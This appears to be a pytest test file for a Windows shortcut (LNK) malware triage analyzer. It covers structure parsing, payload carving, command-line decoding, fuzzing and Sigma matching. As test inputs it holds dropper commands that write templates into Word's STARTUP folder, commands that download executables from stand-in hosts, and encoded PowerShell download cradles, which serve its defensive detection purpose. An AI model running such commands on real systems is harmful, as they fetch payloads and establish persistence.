"""The LNK analyzer: structure as Windows reads it, the command a double-click runs, carving, Sigma."""

from __future__ import annotations

import base64
import hashlib
import json
import struct
import uuid
import warnings
from pathlib import Path, PureWindowsPath
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from restytriage import commandline, lnkformat
from restytriage.analysis import Context, Item, Sibling
from restytriage.analyzers import lnk
from restytriage.blob import Blob
from restytriage.config import Config
from restytriage.engine import triage_bytes
from restytriage.model import Node, Report, walk
from restytriage.samples import lnk_samples as samples
from restytriage.samples import manifest_entry
from restytriage.samples.lnk_writer import SW_SHOWMINNOACTIVE, ShellLink, Tracker, build, droid_guid
from restytriage.samples.office_samples import restylink_template
from restytriage.samples.pdf_samples import decoy_pdf
from restytriage.verify import differences

NO_RULES = Config(builtin_rules=False)
CORPUS = Path(__file__).resolve().parents[1].parent / "shared" / "corpus"


def lnk_node(report: Report) -> Node:
    assert report.root.type == "lnk"
    return report.root


def finding_ids(report: Report) -> set[str]:
    return {f.id for node in walk(report.root) for f in node.findings}


def analyse(link: ShellLink | bytes, name: str = "test.lnk", config: Config = NO_RULES) -> Report:
    return triage_bytes(link if isinstance(link, bytes) else build(link), name, config)


# --- the writer and the structure walk ---------------------------------------------------------


def test_writer_output_reads_back_through_lnkparse3() -> None:
    import LnkParse3

    link = ShellLink(
        target="C:\\Users\\田中\\Documents\\請求書.pdf",
        arguments="",
        working_dir="C:\\Users\\田中\\Documents",
        environment_target="%USERPROFILE%\\Documents\\請求書.pdf",
        tracker=Tracker("desktop-7q3mvk1", "00:0c:29:5a:1b:2c"),
        volume_label="OS",
    )
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # the writer must produce nothing LnkParse3 complains about
        parsed = LnkParse3.lnk_file(indata=build(link)).get_json()
    assert parsed["link_info"]["local_base_path_unicode"] == link.target
    assert parsed["link_info"]["location_info"]["volume_label"] == "OS"
    assert parsed["data"]["working_directory"] == link.working_dir
    assert [i.get("primary_name") for i in parsed["target"]["items"][2:]] == [
        "Users",
        "田中",
        "Documents",
        "請求書.pdf",
    ]
    tracker = parsed["extra"]["DISTRIBUTED_LINK_TRACKER_BLOCK"]
    assert tracker["machine_identifier"] == "desktop-7q3mvk1"
    assert uuid.UUID(tracker["droid_file_identifier"]) == droid_guid("00:0c:29:5a:1b:2c")


@pytest.mark.parametrize(
    "sample", [s for s in samples.SAMPLES if s.name != "seminar_truncated.lnk"], ids=lambda s: s.name
)
def test_structure_end_agrees_with_lnkparse3(sample: Any) -> None:
    import LnkParse3

    data = sample.build()
    layout = lnkformat.walk(data)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        expected = LnkParse3.lnk_file(indata=data, allow_terminal_blocks=False).size
    assert layout.end == expected
    assert not layout.problems


# --- the sample set ----------------------------------------------------------------------------


@pytest.mark.parametrize("sample", samples.SAMPLES, ids=lambda s: s.name)
def test_sample_meets_its_expectations(sample: Any) -> None:
    data = sample.build()
    report = triage_bytes(data, sample.name)
    assert list(differences(manifest_entry(sample, data), report)) == []
    assert not any(node.errors for node in walk(report.root))


def test_appended_template_and_decoy_become_labelled_children_at_their_offsets() -> None:
    data = samples.appended_payload_shortcut()
    template, decoy = restylink_template(), decoy_pdf()
    report = triage_bytes(data, "請求書.pdf.lnk")
    root = lnk_node(report)
    lnk_size = len(data) - len(template) - len(decoy)
    children = [(c.type, c.offset, c.size, c.sha256, c.labels) for c in root.children]
    assert children == [
        ("ole", lnk_size, len(template), hashlib.sha256(template).hexdigest(), ["payload", "carved"]),
        ("pdf", lnk_size + len(template), len(decoy), hashlib.sha256(decoy).hexdigest(), ["decoy", "carved"]),
    ]
    assert not [f for child in root.children for f in child.findings if f.id.startswith("names.")]
    appended = root.metadata["lnk"]["appended"]
    assert appended["offset"] == lnk_size and appended["unexplained"] == []
    # the offsets the command cuts at are the ones the carver found
    line = root.metadata["lnk"]["command"]["line"]
    assert f"$b[{lnk_size:07d}..{lnk_size + len(template) - 1:07d}]" in line
    assert "ole.template_macro_payload" in {f.id for f in root.children[0].findings}


def test_restylink_shape_alone_is_malicious() -> None:
    """Without icon, window, decoy or name tricks, and with no rules: the command shape decides."""
    for command in (
        'copy /y x.dot "%APPDATA%\\Microsoft\\Word\\STARTUP\\x.dot"',
        'type "%TEMP%\\a.bin" > "%APPDATA%\\Microsoft\\Word\\STARTUP\\Normal1.dotm"',
        'findstr /v "^#" "%TEMP%\\a.txt" > %APPDATA%\\Microsoft\\Word\\STARTUP\\t.dot',
        'echo|set /p="x" > "%AppData%\\Microsoft\\Word\\Startup\\w.dot"',
        'certutil -decode "%TEMP%\\t.b64" "%APPDATA%\\Microsoft\\Word\\STARTUP\\t.dot"',
        'set d=%APPDATA%\\Microsoft\\Word\\STARTUP& copy /b a.lnk+b.bin "%d%\\tpl.dot"',
        'copy /y x.dot "%APPDATA%\\Microsoft\\Word\\STARTUP\\x.dot" >nul 2>&1',  # quiet, as droppers are
        'copy /y x.dot "%APPDATA%\\Microsoft\\Word\\STARTUP\\x.dot" 2>&1 1>nul',
    ):
        report = analyse(ShellLink(target=samples.CMD, arguments=f"/c {command}"), "shortcut.lnk")
        assert report.verdict == "malicious", command
        assert "lnk.office_template_drop" in finding_ids(report), command


# --- the command line ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "steps"),
    [
        ('copy a b & start "" "x & y.pdf"', ["copy a b", 'start "" "x & y.pdf"']),
        ("a && b || c | d", ["a", "b", "c", "d"]),
        ("^st^art x ^& y", ["start x & y"]),
        ("dir 2>&1 & echo", ["dir 2>&1", "echo"]),
        ("if exist a (start x.exe & exit) else (copy a b)", ["if exist a (start x.exe", "exit", "copy a b)"]),
    ],
)
def test_cmd_chains_split_like_cmd(text: str, steps: list[str]) -> None:
    assert commandline.split_cmd(text) == steps


@pytest.mark.parametrize(
    ("arguments", "command"),
    [
        ("/c dir", "dir"),
        ("/q /v:on /C  dir & echo", "dir & echo"),
        ('/c "copy a b & start x"', "copy a b & start x"),
        ("\r\n    /k title", "title"),
        ("/s", None),
    ],
)
def test_what_cmd_runs(arguments: str, command: str | None) -> None:
    assert commandline.after_cmd_switch(arguments) == command


def test_control_wrappers_and_variables_are_unwrapped() -> None:
    assert (
        commandline.unwrap_control('@for /r %f in (*.zip) do @if exist %f (start "" a.exe')
        == 'start "" a.exe'
    )
    assert commandline.unwrap_control("if not errorlevel 1 call b.bat") == "b.bat"
    assert commandline.substitute_variables(
        ["set p=C:\\x", "copy a %p%\\b", 'set "q=!p!\\y"', "type !q!"]
    ) == [
        "set p=C:\\x",
        "copy a C:\\x\\b",
        'set "q=C:\\x\\y"',
        "type C:\\x\\y",
    ]


@pytest.mark.parametrize(
    ("step", "destination", "source"),
    [
        ('copy /b /y "a b.dot" "C:\\t\\x.dot"', "C:\\t\\x.dot", "a b.dot"),
        ("xcopy /h a.dot C:\\t\\", "C:\\t\\", "a.dot"),
        ("robocopy . C:\\t x.dot /mov", "C:\\t\\x.dot", "."),
        ("esentutl /y a.dot /d C:\\t\\x.dot /o", "C:\\t\\x.dot", "a.dot"),
        (
            "certutil -urlcache -split -f http://h.invalid/a C:\\t\\a.exe",
            "C:\\t\\a.exe",
            "http://h.invalid/a",
        ),
        ("bitsadmin /transfer j http://h.invalid/a C:\\t\\a.exe", "C:\\t\\a.exe", "http://h.invalid/a"),
        ("curl -s -o C:\\t\\a.exe http://h.invalid/a", "C:\\t\\a.exe", None),
        ('type x.bin >> "C:\\t\\y.dot"', "C:\\t\\y.dot", None),
    ],
)
def test_cmd_writes(step: str, destination: str, source: str | None) -> None:
    writes = commandline.cmd_writes(step)
    assert [(w.destination, w.source) for w in writes] == [(destination, source)]


def test_cmd_writes_ignore_nul_and_stream_redirections() -> None:
    assert commandline.cmd_writes("dir > nul 2>&1") == []
    (write,) = commandline.cmd_writes('copy /y a.dot "C:\\t\\b.dot" >nul 2>&1')
    assert (write.source, write.destination) == ("a.dot", "C:\\t\\b.dot")  # not "2>&1"


@pytest.mark.parametrize(
    "arguments",
    ['/c start /min "" invoice.pdf', '/c start "" /min invoice.pdf', "/c start /b invoice.pdf"],
)
def test_the_start_title_may_come_among_the_switches(arguments: str) -> None:
    view = commandline.analyse_command(samples.CMD, arguments)
    assert view.opens == ["invoice.pdf"] and view.child_programs == [("invoice.pdf", "")]


@pytest.mark.parametrize(
    ("statement", "destination"),
    [
        ("iwr http://h.invalid/a -OutFile $env:TEMP\\a.exe", "%TEMP%\\a.exe"),
        (
            "(New-Object Net.WebClient).DownloadFile('http://h.invalid/a', \"$env:APPDATA\\b.exe\")",
            "%APPDATA%\\b.exe",
        ),
        ("[IO.File]::WriteAllBytes(($env:APPDATA+'\\x\\y.dot'),$b)", "%APPDATA%\\x\\y.dot"),
        ("Copy-Item .\\a.dot -Destination 'C:\\t\\'", "C:\\t\\"),
        ("Move-Item .\\a.dot C:\\t\\b.dot", "C:\\t\\b.dot"),
        ("Set-Content -Path C:\\t\\c.vbs -Value $x", "C:\\t\\c.vbs"),
        ("$x | Out-File C:\\t\\d.txt", None),
    ],
)
def test_powershell_writes(statement: str, destination: str | None) -> None:
    writes = commandline.powershell_writes(statement)
    assert [w.destination for w in writes] == ([destination] if destination else [])


@pytest.mark.parametrize(
    "switch", ["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "\u2013encodedc", "-ENCOD"]
)
def test_encoded_powershell_switch_forms(switch: str) -> None:
    script = "iwr http://203.0.113.9/a.ps1 -OutFile $env:TEMP\\a.ps1"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    report = analyse(ShellLink(target=samples.POWERSHELL, arguments=f"-nop {switch} {encoded}"))
    node = lnk_node(report)
    assert node.metadata["lnk"]["command"]["decoded"] == [
        {"from": switch.replace("/", "-").replace("\u2013", "-"), "text": script}
    ]
    assert {"lnk.encoded_powershell", "lnk.download_cradle"} <= finding_ids(report)
    assert ("ip", "203.0.113.9") in {(i.type, i.value) for i in report.iocs}
    assert node.facts["writes"] == "%TEMP%\\a.ps1"


def test_execution_policy_switch_is_not_an_encoded_command() -> None:
    report = analyse(
        ShellLink(
            target=samples.POWERSHELL,
            arguments="-ep bypass -f C:\\Users\\Public\\QmFzZTY0TG9va2luZ1N0cmluZw.ps1",
        )
    )
    assert lnk_node(report).metadata["lnk"]["command"]["decoded"] == []


def test_nested_base64_inside_decoded_powershell_is_decoded_too() -> None:
    inner = base64.b64encode(b"Start-Process 'C:\\Users\\Public\\invoice.pdf'").decode()
    outer = f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}')))"
    encoded = base64.b64encode(outer.encode("utf-16-le")).decode()
    report = analyse(ShellLink(target=samples.POWERSHELL, arguments=f"-enc {encoded}"))
    command = lnk_node(report).metadata["lnk"]["command"]
    assert [d["from"] for d in command["decoded"]] == ["-enc", "FromBase64String"]
    assert command["opens"] == ["C:\\Users\\Public\\invoice.pdf"]


def test_decoy_beside_the_shortcut_in_its_container_is_named() -> None:
    data = build(
        ShellLink(target="C:\\Windows\\System32\\cmd.exe", arguments='/c start "" "programme.pdf" & x.exe')
    )
    item = Item(Blob.of(data), "a.lnk", "lnk", "lnk", 1, "zip", (Sibling("docs/programme.pdf", "pdf"),))
    context = Context(NO_RULES, Path("/nonexistent"), float("inf"))  # nothing here spills to disk
    result = lnk.analyze(item, context)
    decoy = next(f for f in result.findings if f.id == "lnk.decoy_document")
    assert decoy.details["siblings"] == ["docs/programme.pdf"]


def test_benign_program_shortcuts_stay_quiet() -> None:
    for link in (
        ShellLink(
            target="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            arguments="--profile-directory=Default",
        ),
        ShellLink(
            target="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            show_command=SW_SHOWMINNOACTIVE,
        ),
        ShellLink(target="C:\\Users\\emma\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"),
        ShellLink(target="C:\\Windows\\explorer.exe", arguments="C:\\Users\\emma\\Documents"),
        ShellLink(target="C:\\Windows\\System32\\rundll32.exe"),
    ):
        report = analyse(link)
        assert report.verdict == "clean", (link.target, report.reasons)
        assert not {f for f in finding_ids(report) if f.startswith("lnk.")}, link.target


# --- targets, icons, tracker ---------------------------------------------------------------------


def test_target_sources_that_disagree() -> None:
    report = analyse(
        ShellLink(
            target="C:\\Windows\\System32\\notepad.exe", environment_target="%ComSpec%", arguments="/c calc"
        )
    )
    node = lnk_node(report)
    assert node.metadata["lnk"]["target"]["source"] == "environment block"
    assert node.metadata["lnk"]["command"]["program"] == "cmd"
    assert {"lnk.target_mismatch", "lnk.target_cmd"} <= finding_ids(report)


def test_ansi_copies_of_unicode_names_are_not_a_mismatch() -> None:
    report = analyse(ShellLink(target="C:\\データ\\報告書.exe", environment_target="C:\\データ\\報告書.exe"))
    assert "lnk.target_mismatch" not in finding_ids(report)


def test_network_icon_and_network_program() -> None:
    report = analyse(
        ShellLink(
            target="\\\\198.51.100.4\\share\\viewer.exe", icon_location="\\\\198.51.100.4\\share\\icon.ico"
        )
    )
    node = lnk_node(report)
    assert node.metadata["lnk"]["target"]["sources"]["LinkInfo"] == "\\\\198.51.100.4\\share\\viewer.exe"
    assert {"lnk.remote_icon", "lnk.remote_target"} <= finding_ids(report)


def test_tracker_gives_machine_mac_and_time_as_pivots() -> None:
    report = analyse(ShellLink(target="C:\\x\\a.pdf", tracker=Tracker("ws-finance-07", "70:5a:b6:16:a5:f3")))
    tracker = lnk_node(report).metadata["lnk"]["extra"]["tracker"]
    assert tracker["droid_mac"] == "70:5a:b6:16:a5:f3" and tracker["droid_mac_is_random"] is False
    assert tracker["droid_time"].startswith("2022-04-12T08:30:00")
    assert {("mac", "70:5a:b6:16:a5:f3"), ("hostname", "ws-finance-07")} <= {
        (i.type, i.value) for i in report.iocs
    }


def test_random_node_ids_are_not_reported_as_mac_addresses() -> None:
    report = analyse(ShellLink(target="C:\\x\\a.pdf", tracker=Tracker("ws", "03:00:00:00:00:01")))
    assert "mac" not in {i.type for i in report.iocs}


# --- hostile structures --------------------------------------------------------------------------


def test_lying_block_size_reports_what_was_read() -> None:
    data = bytearray(
        build(
            ShellLink(
                target="C:\\Windows\\System32\\cmd.exe",
                arguments="/c whoami",
                tracker=Tracker("h", "00:11:22:33:44:55"),
            )
        )
    )
    at = data.find(struct.pack("<II", 0x60, 0xA0000003))
    struct.pack_into("<I", data, at, 0x6000)
    report = analyse(bytes(data))
    node = lnk_node(report)
    assert "lnk.malformed" in finding_ids(report) and not node.errors
    assert "tracker block 0xA0000003" in node.metadata["lnk"]["structure"]["problems"][0]
    assert node.metadata["lnk"]["strings"]["arguments"] == "/c whoami"


@pytest.mark.parametrize("cut", [20, 60, 78, 90, 200])
def test_truncation_anywhere_gives_a_report_with_an_error_finding(cut: int) -> None:
    data = build(ShellLink(target="C:\\Windows\\System32\\cmd.exe", arguments="/c whoami"))[:cut]
    report = analyse(data)
    assert "lnk.malformed" in finding_ids(report)
    assert not lnk_node(report).errors


def test_payload_appended_without_a_terminal_block_is_still_carved() -> None:
    decoy = decoy_pdf()
    data = build(ShellLink(target="C:\\x\\a.pdf"))[:-4] + decoy  # terminal block removed
    report = analyse(data)
    root = lnk_node(report)
    assert [(c.type, c.offset) for c in root.children] == [("pdf", len(data) - len(decoy))]
    assert {"lnk.appended_data", "lnk.malformed"} <= finding_ids(report)


def test_undocumented_block_is_flagged_and_searched() -> None:
    decoy = decoy_pdf()
    block = struct.pack("<II", 8 + len(decoy), 0xA00000F1) + decoy
    report = analyse(ShellLink(target="C:\\x\\a.pdf", extra_blocks=[block]))
    root = lnk_node(report)
    assert "lnk.unknown_extra_block" in finding_ids(report)
    assert [(c.type, c.path) for c in root.children] == [
        ("pdf", f"block 0xA00000F1@{root.children[0].offset:#x}")
    ]
    assert "lnk.appended_data" not in finding_ids(report)


def test_string_count_above_windows_cap_is_read_the_windows_way() -> None:
    link = ShellLink(
        target="C:\\Windows\\System32\\cmd.exe",
        description="Invoice".ljust(260),
        arguments="/c calc",
        string_counts={"description": 5000},
    )
    report = analyse(link)
    node = lnk_node(report)
    assert node.metadata["lnk"]["strings"]["arguments"] == "/c calc"
    assert "lnk.string_overflow" in finding_ids(report)


def test_zero_padding_after_the_terminal_block_is_not_a_payload() -> None:
    report = analyse(build(ShellLink(target="C:\\x\\a.pdf")) + b"\x00" * 512)
    assert "lnk.appended_data" not in finding_ids(report)
    assert lnk_node(report).metadata["lnk"]["appended"]["blank"] is True


# The shortcut structure is what is fuzzed: the sample carrying an OLE template is left out, as
# mutating that template exercises the OLE analyzer (which has its own tests), not this parser.
FUZZ_SEEDS = [s.build for s in samples.SAMPLES if s.name != "請求書.pdf.lnk"]


@settings(max_examples=60, deadline=5000, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(FUZZ_SEEDS),
    st.lists(
        st.tuples(st.integers(min_value=20, max_value=20_000), st.binary(min_size=1, max_size=8)), max_size=6
    ),
    st.integers(min_value=20, max_value=20_000),
)
def test_mutated_shortcuts_never_break_the_analyzer(
    builder: Any, patches: list[tuple[int, bytes]], cut: int
) -> None:
    data = bytearray(builder())
    for where, replacement in patches:
        where %= len(data)
        data[where : where + len(replacement)] = replacement
    report = triage_bytes(bytes(data[: max(20, cut % (len(data) + 1))]), "fuzz.lnk", NO_RULES)
    assert not [e for node in walk(report.root) for e in node.errors if e.analyzer == "lnk"]


# --- Sigma on the implied process creation -------------------------------------------------------


def test_implied_process_creation_event() -> None:
    report = analyse(samples.restylink_shortcut(), "seminar_programme.pdf.lnk")
    event = lnk_node(report).metadata["lnk"]["sigma"]["events"][0]
    assert event == {
        "Image": "C:\\Windows\\system32\\cmd.exe",
        "CommandLine": '"C:\\Windows\\system32\\cmd.exe" ' + samples.RESTYLINK_COMMAND,
        "ParentImage": "C:\\Windows\\explorer.exe",
        "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "OriginalFileName": "cmd.exe",
    }


def test_documents_and_scripts_imply_their_handler_process() -> None:
    assert lnk._process("C:\\x\\report.pdf", "", "") is None
    assert lnk._process("C:\\x\\run.vbs", "/q", "") == (
        "C:\\Windows\\System32\\wscript.exe",
        '"C:\\Windows\\System32\\WScript.exe" "C:\\x\\run.vbs" /q',
    )
    assert lnk._process("_\\DeviceManager.exe", "", "B:\\") == (
        "B:\\_\\DeviceManager.exe",
        '"B:\\_\\DeviceManager.exe"',
    )
    assert lnk._process("chcp", "65001", "C:\\") is None  # bare names resolve only for known programs


def test_sigma_rules_from_a_user_folder_become_findings(tmp_path: Path) -> None:
    (tmp_path / "lnk_word_startup.yml").write_text(
        """\
title: Test Rule cmd Writing to Word STARTUP
id: 6a0f7d1e-2b8c-4c55-9f3e-1d2c3b4a5f60
status: test
tags:
    - attack.persistence
    - attack.t1137.001
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        ParentImage|endswith: '\\explorer.exe'
        Image|endswith: '\\cmd.exe'
        OriginalFileName: 'Cmd.Exe'
        CommandLine|contains: '\\Word\\STARTUP\\'
    condition: selection
level: high
""",
        "utf-8",
    )
    config = Config(builtin_rules=False, sigma_dirs=(tmp_path,))
    report = analyse(samples.restylink_shortcut(), "x.lnk", config)
    sigma = [f for f in lnk_node(report).findings if f.id.startswith("lnk.sigma_")]
    assert [(f.id, f.title, f.techniques, f.details["rule_id"]) for f in sigma] == [
        (
            "lnk.sigma_high",
            "Sigma: Test Rule cmd Writing to Word STARTUP",
            ["T1137.001"],
            "6a0f7d1e-2b8c-4c55-9f3e-1d2c3b4a5f60",
        )
    ]


def test_sigmahq_padding_rule_fires_on_the_padded_sample(corpus: Path) -> None:
    config = Config(builtin_rules=False, sigma_dirs=(corpus / "sigma" / "rules",))
    report = analyse(samples.padded_arguments_shortcut(), "statement.lnk", config)
    rules = {f.details.get("rule_id") for f in lnk_node(report).findings if f.id.startswith("lnk.sigma_")}
    assert "dd8756e7-a3a0-4768-b47e-8f545d1a751c" in rules  # Suspicious LNK Command-Line Padding


# --- the public corpus ---------------------------------------------------------------------------


def corpus_shortcuts() -> list[tuple[str, str]]:
    """(id, path) of every real LNK in the corpus; base64 samples are decoded in memory by the test."""
    if not CORPUS.is_dir():
        return []
    found = [(f"lnkparse3/{p.name}", str(p)) for p in sorted((CORPUS / "lnkparse3" / "samples").iterdir())]
    found += [(f"decoded/{p.name}", str(p)) for p in sorted((CORPUS / "lnkparse3" / "decoded").glob("*.lnk"))]
    found += [("strelka/test.lnk", str(CORPUS / "strelka" / "fixtures" / "test.lnk"))]
    found += [(f"plaso/{p.name}", str(p)) for p in sorted((CORPUS / "plaso" / "test_data").glob("*.lnk"))]
    return found


def expected_json(path: Path) -> dict[str, Any] | None:
    json_path = path.parents[1] / "json" / (path.stem + ".json")
    return (
        json.loads(json_path.read_text("utf-8"))
        if "lnkparse3" in path.parts and json_path.is_file()
        else None
    )


def corpus_bytes(path: Path) -> bytes:
    raw = path.read_bytes()
    return base64.b64decode(raw) if path.parent.name == "samples" else raw


@pytest.mark.parametrize(
    ("name", "where"), corpus_shortcuts() or [("none", "")], ids=lambda v: v if "/" in v else ""
)
def test_corpus_shortcut_parses_and_agrees_with_lnkparse3(corpus: Path, name: str, where: str) -> None:
    path = Path(where)
    report = triage_bytes(corpus_bytes(path), path.stem + ".lnk", NO_RULES)
    node = lnk_node(report)
    assert not node.errors
    assert {"lnk.malformed", "engine.analyzer_error"}.isdisjoint(finding_ids(report))
    meta = node.metadata["lnk"]
    target, arguments = meta["target"], meta["strings"].get("arguments", "")
    assert (
        meta["command"]["line"]
        == (
            (f'"{target["path"]}"' if target["path"] else "") + (f" {arguments}" if arguments else "")
        ).strip()
    )
    expected = expected_json(path)
    if expected is None:
        return
    data = expected["data"]
    for mine, theirs in (
        ("description", "description"),
        ("relative_path", "relative_path"),
        ("working_directory", "working_directory"),
        ("arguments", "command_line_arguments"),
        ("icon_location", "icon_location"),
    ):
        assert meta["strings"].get(mine) == data.get(theirs), mine
    sources = target["sources"]
    info = expected.get("link_info") or {}
    suffix = info.get("common_path_suffix_unicode", info.get("common_path_suffix", ""))
    if info.get("location") == "Local":
        assert (
            sources["LinkInfo"] == info.get("local_base_path_unicode", info.get("local_base_path")) + suffix
        )
    environment = expected["extra"].get("ENVIRONMENTAL_VARIABLES_LOCATION_BLOCK")
    if environment:
        assert sources["environment block"] == (environment["target_unicode"] or environment["target_ansi"])
    for item in (expected.get("target") or {}).get("items", []):
        primary = item.get("primary_name", "") if item.get("class") == "File entry" else ""
        # 8.3 names and Unicode names Windows stored without a terminator (LnkParse3 then reads on into
        # the extension block) differ from the long names reported; every other name must be there.
        if primary and "~" not in primary and primary.isprintable():
            assert primary.lower() in sources["IDList"].lower()
    if "HasExpString" in expected["header"]["link_flags"] and environment:
        assert target["source"] == "environment block"
    elif "IDList" in sources and sources["IDList"][:1] not in (":", "<") and "<" not in sources["IDList"]:
        assert target["source"] == "IDList"
    appended = expected["extra"].get("TERMINAL_BLOCK", {}).get("size", 4) - 4
    assert meta["structure"]["lnk_size"] == expected["size"] - appended


def test_corpus_trackers_give_their_mac_addresses(corpus: Path) -> None:
    cases = {
        corpus / "strelka" / "fixtures" / "test.lnk": ("laptop-c77ajnj7", "38:fc:98:9e:18:fc"),
        corpus / "plaso" / "test_data" / "NeroInfoTool.lnk": (None, "70:5a:b6:16:a5:f3"),
    }
    for path, (machine, mac) in cases.items():
        report = triage_bytes(path.read_bytes(), path.name, NO_RULES)
        facts = lnk_node(report).facts
        assert facts["MAC"] == mac
        if machine:
            assert facts["machine"] == machine


def test_corpus_property_store_gives_the_creator_sid(corpus: Path) -> None:
    data = base64.b64decode((corpus / "lnkparse3" / "samples" / "sample10").read_bytes())
    facts = lnk_node(triage_bytes(data, "sample10.lnk", NO_RULES)).facts
    assert facts["user SID"] == "S-1-5-21-1430700990-1739138600-2653947104-1104"
    assert facts["MAC"].endswith("(random)")  # its droid GUID's node id has the multicast bit set


def test_corpus_launchers_are_recognised(corpus: Path) -> None:
    expectations = {
        "padded_cli_arguments": {
            "lnk.whitespace_padding",
            "lnk.string_overflow",
            "lnk.target_cmd",
            "lnk.target_indirect",
        },
        "unknown_target": {"lnk.cpl_target", "lnk.appended_data"},
        "unknown_block": {"lnk.unknown_extra_block", "lnk.target_cmd"},
        "sample13": {"lnk.target_cmd", "lnk.hidden_window"},
        "decoding_error2": {"lnk.target_cmd"},
    }
    for name, expected in expectations.items():
        data = base64.b64decode((corpus / "lnkparse3" / "samples" / name).read_bytes())
        report = triage_bytes(data, f"{name}.lnk", NO_RULES)
        assert expected <= finding_ids(report), name
    console = base64.b64decode((corpus / "lnkparse3" / "samples" / "console_properties_block").read_bytes())
    report = triage_bytes(console, "Windows PowerShell.lnk", NO_RULES)
    assert report.verdict == "clean"
    assert PureWindowsPath(lnk_node(report).metadata["lnk"]["target"]["path"]).name == "powershell.exe"


def test_a_carved_child_is_not_blamed_for_the_name_we_gave_it() -> None:
    """The carver names any ZIP `.zip`; an appended .docx is a ZIP too, and no masquerade."""
    import io
    import zipfile

    document = io.BytesIO()
    with zipfile.ZipFile(document, "w") as package:
        package.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        package.writestr("word/document.xml", "<w:document/>")
    data = build(ShellLink(target="C:\\Windows\\notepad.exe")) + document.getvalue()
    report = triage_bytes(data, "notes.lnk")
    (child,) = lnk_node(report).children
    assert child.name.endswith(".zip") and child.type == "ooxml" and "carved" in child.labels
    assert "names.type_mismatch" not in {f.id for f in child.findings}


@pytest.mark.parametrize("target", ["E:\\ \\ .exe", "E:\\\u00a0\\\u00a0.exe", "C:\\Users\\Public\\   .scr"])
def test_a_program_with_a_blank_name_or_folder_is_flagged(target: str) -> None:
    report = analyse(ShellLink(target=target, arguments="/b"), "USB Drive (8GB).lnk")
    assert "lnk.blank_name_target" in finding_ids(report), target
    assert report.verdict != "clean"


def test_usb_worm_shortcut_from_the_corpus(corpus: Path) -> None:
    data = base64.b64decode((corpus / "lnkparse3/samples/sample5").read_bytes())  # SOURCES.md: a worm
    report = triage_bytes(data, "sample5.lnk")
    (finding,) = [f for f in report.root.findings if f.id == "lnk.blank_name_target"]
    assert finding.evidence == "E:\\<U+00A0>\\<U+00A0>.exe: 2 blank name(s) in the path"


def test_blank_names_in_a_document_path_are_not_a_program() -> None:
    report = analyse(ShellLink(target="C:\\Users\\Public\\ \\notes.txt"), "notes.lnk")
    assert "lnk.blank_name_target" not in finding_ids(report)
